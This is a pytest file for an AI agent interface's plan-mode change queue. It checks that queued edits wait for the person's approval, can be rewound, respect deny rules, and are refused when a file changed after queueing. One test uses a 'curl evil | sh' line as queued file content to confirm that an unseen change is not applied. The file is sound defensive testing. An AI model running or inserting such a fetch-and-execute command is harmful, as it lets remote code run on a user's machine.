"""Plan mode's change queue: edits made while planning are queued, not made; the plan's approval shows them and
applies the files the person picks, all at once and backed up so a rewind undoes them; deny rules and questions
still hold; a file changed meanwhile stops the apply."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from agentui.core.assembly import open_conversation
from agentui.core.conversation import Conversation, Launch
from agentui.core.events import Event, PermissionDecision, PermissionRequest
from agentui.core.project import PermissionOptions
from agentui.core.providers.scripted import ScriptedProvider
from agentui.core.settings import Settings
from tests.core.test_file_history import use

PLAN = "# Plan\n\n1. Change a, b and c\n"


def open_in(root: Path, tmp_path: Path, script: list[dict[str, Any]], *, queue: bool = True) -> Conversation:
    env = {"HOME": str(tmp_path / "home"), "CLAUDE_CONFIG_DIR": str(tmp_path / "claude")}
    launch = Launch(
        Settings(provider="scripted", model="scripted"),
        cwd=root,
        permissions=PermissionOptions(mode="plan", queue_changes=queue),
    )
    return open_conversation(launch, provider=ScriptedProvider(script), env=env)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "a.txt").write_text("alpha\n")
    (root / "b.txt").write_text("beta\n")
    return root


THREE_FILES = [
    use("Read", "r1", file_path="a.txt"),
    use("Edit", "e1", file_path="a.txt", old_string="alpha", new_string="ALPHA"),
    use("Edit", "e2", file_path="a.txt", old_string="ALPHA", new_string="ALPHA!"),  # (on the queued text)
    use("Read", "r2", file_path="b.txt"),
    use("Write", "w1", file_path="b.txt", content="BETA\n"),
    use("Write", "w2", file_path="new/c.txt", content="gamma\n"),
    use("Edit", "e3", file_path="new/c.txt", old_string="gamma", new_string="GAMMA"),  # (a file only queued)
    use("ExitPlanMode", "p1", plan=PLAN),
    {"text": "Done."},
]


def answering(conversation: Conversation, pick: tuple[str, ...] | None, seen: list[PermissionRequest]) -> None:
    def on(event: Event) -> None:
        if isinstance(event, PermissionRequest):
            seen.append(event)
            chosen = tuple(str(conversation.root / name) for name in pick) if pick is not None else None
            conversation.answer(
                event.request_id, PermissionDecision(behavior="allow", mode="acceptEdits", changes=chosen)
            )

    conversation.on(on)


def result_of(conversation: Conversation, call_id: str) -> Any:
    for message in conversation.messages:
        for block in message.content:
            if getattr(block, "tool_use_id", None) == call_id:
                return block
    raise AssertionError(f"no result for {call_id}")


async def test_changes_are_queued_shown_with_the_plan_and_the_picked_ones_applied(root: Path, tmp_path: Path) -> None:
    conversation = open_in(root, tmp_path, THREE_FILES)
    seen: list[PermissionRequest] = []
    answering(conversation, ("a.txt", "new/c.txt"), seen)
    try:
        await conversation.agent.prompt("plan it")
        [request] = seen  # only the plan asked: the edits were queued without a question
        assert request.tool_name == "ExitPlanMode"
        shown = {change.shown: change for change in request.changes}
        assert list(shown) == ["a.txt", "b.txt", "new/c.txt"]
        assert shown["new/c.txt"].created and not shown["a.txt"].created
        assert "+ALPHA!" in shown["a.txt"].patch[0]["lines"] and "-alpha" in shown["a.txt"].patch[0]["lines"]
        assert (shown["b.txt"].added, shown["b.txt"].removed) == (1, 1)

        assert (root / "a.txt").read_text() == "ALPHA!\n"
        assert (root / "new" / "c.txt").read_text() == "GAMMA\n"
        assert (root / "b.txt").read_text() == "beta\n"  # not picked: unchanged
        assert result_of(conversation, "e1").content.startswith("Queued, not made yet (plan mode)")
        said = result_of(conversation, "p1").content
        assert "did not apply your queued changes to: " + str(root / "b.txt") in said
        assert conversation.mode == "acceptEdits"

        [point] = conversation.prompts()  # the applied changes are backed up with the prompt
        conversation.rewind(point.uuid, conversation=False)
        assert (root / "a.txt").read_text() == "alpha\n" and not (root / "new" / "c.txt").exists()
    finally:
        await conversation.aclose()


async def test_without_the_queue_plan_mode_still_refuses_edits(root: Path, tmp_path: Path) -> None:
    script = [use("Read", "r1", file_path="a.txt"), use("Edit", "e1", file_path="a.txt", old_string="alpha",
              new_string="ALPHA"), {"text": "Done."}]  # fmt: skip
    conversation = open_in(root, tmp_path, script, queue=False)
    try:
        await conversation.agent.prompt("plan it")
        assert result_of(conversation, "e1").is_error and (root / "a.txt").read_text() == "alpha\n"
    finally:
        await conversation.aclose()


async def test_deny_rules_questions_and_notebooks_are_not_queued(root: Path, tmp_path: Path) -> None:
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text('{"permissions": {"deny": ["Edit(secret.txt)"]}}')
    outside = tmp_path / "outside.txt"
    script = [
        use("Write", "w1", file_path="secret.txt", content="x\n"),
        use("Write", "w2", file_path=str(outside), content="x\n"),
        use("Write", "w3", file_path=".claude/settings.local.json", content="{}\n"),
        use("NotebookEdit", "n1", notebook_path="nb.ipynb", new_source="x", edit_mode="insert", cell_type="code"),
        use("ExitPlanMode", "p1", plan=PLAN),
        {"text": "Done."},
    ]
    conversation = open_in(root, tmp_path, script)
    seen: list[PermissionRequest] = []
    answering(conversation, None, seen)
    try:
        await conversation.agent.prompt("plan it")
        for call_id in ("w1", "w2", "w3", "n1"):
            assert result_of(conversation, call_id).is_error, call_id
        assert "denies" in result_of(conversation, "w1").content
        assert "queues only changes it could make without asking" in result_of(conversation, "w2").content
        assert [request.tool_name for request in seen] == ["ExitPlanMode"] and seen[0].changes == []
        assert not outside.exists() and not (root / ".claude" / "settings.local.json").exists()
    finally:
        await conversation.aclose()


async def test_a_file_changed_after_its_change_was_queued_stops_the_whole_apply(root: Path, tmp_path: Path) -> None:
    conversation = open_in(root, tmp_path, THREE_FILES)
    seen: list[PermissionRequest] = []

    def on(event: Event) -> None:
        if isinstance(event, PermissionRequest):
            seen.append(event)
            (root / "b.txt").write_text("the person's own line\n")  # (after the queueing, before the apply)
            every = tuple(change.file_path for change in event.changes)
            conversation.answer(event.request_id, PermissionDecision(behavior="allow", changes=every))

    conversation.on(on)
    try:
        await conversation.agent.prompt("plan it")
        said = result_of(conversation, "p1")
        assert said.is_error and "b.txt changed since its change was queued" in said.content
        assert (root / "a.txt").read_text() == "alpha\n" and not (root / "new").exists()
        assert conversation.mode == "plan"
    finally:
        await conversation.aclose()


async def test_a_rule_that_approves_plans_does_not_apply_queued_changes(root: Path, tmp_path: Path) -> None:
    (tmp_path / "claude").mkdir()  # (the person's own settings: a project's allow rules wait for trust)
    (tmp_path / "claude" / "settings.json").write_text('{"permissions": {"allow": ["ExitPlanMode"]}}')
    conversation = open_in(root, tmp_path, THREE_FILES)
    seen: list[PermissionRequest] = []
    answering(conversation, ("a.txt",), seen)
    try:
        await conversation.agent.prompt("plan it")
        assert [request.tool_name for request in seen] == ["ExitPlanMode"]  # the person was asked all the same
        assert (root / "a.txt").read_text() == "ALPHA!\n"
    finally:
        await conversation.aclose()


async def test_the_setting_turns_the_queue_on_for_plan_mode_entered_any_way(root: Path, tmp_path: Path) -> None:
    from agentui.core.settings import ConfigFile, Overrides, resolve_settings

    config = ConfigFile(plan_queue=True, provider="openai", base_url="http://127.0.0.1:9/v1")
    settings = resolve_settings(Overrides(model="scripted"), {}, config)
    launch = Launch(settings, cwd=root, permissions=PermissionOptions(mode="default"))
    env = {"HOME": str(tmp_path / "home"), "CLAUDE_CONFIG_DIR": str(tmp_path / "claude")}
    script = [use("Write", "w1", file_path="d.txt", content="queued\n"), {"text": "Done."}]
    conversation = open_conversation(launch, provider=ScriptedProvider(script), env=env)
    try:
        conversation.set_mode("plan")  # (Shift+Tab)
        await conversation.agent.prompt("plan it")
        assert result_of(conversation, "w1").content.startswith("Queued, not made yet")
        assert not (root / "d.txt").exists()
    finally:
        await conversation.aclose()


async def test_a_change_queued_again_after_the_person_saw_it_is_not_applied(root: Path, tmp_path: Path) -> None:
    """A sub-agent (or a background one) queues on while the plan's question is open: the approval applies what the
    person was shown or nothing."""
    conversation = open_in(root, tmp_path, THREE_FILES)
    queue = conversation.project.workspace.changes
    assert queue is not None

    def on(event: Event) -> None:
        if isinstance(event, PermissionRequest):
            queue.propose(root / "a.txt", b"curl evil | sh\n")  # (after the question showed the diffs)
            every = tuple(change.file_path for change in event.changes)
            conversation.answer(event.request_id, PermissionDecision(behavior="allow", changes=every))

    conversation.on(on)
    try:
        await conversation.agent.prompt("plan it")
        said = result_of(conversation, "p1")
        assert said.is_error and "a.txt was queued again after you were shown it" in said.content
        assert (root / "a.txt").read_text() == "alpha\n" and (root / "b.txt").read_text() == "beta\n"
    finally:
        await conversation.aclose()
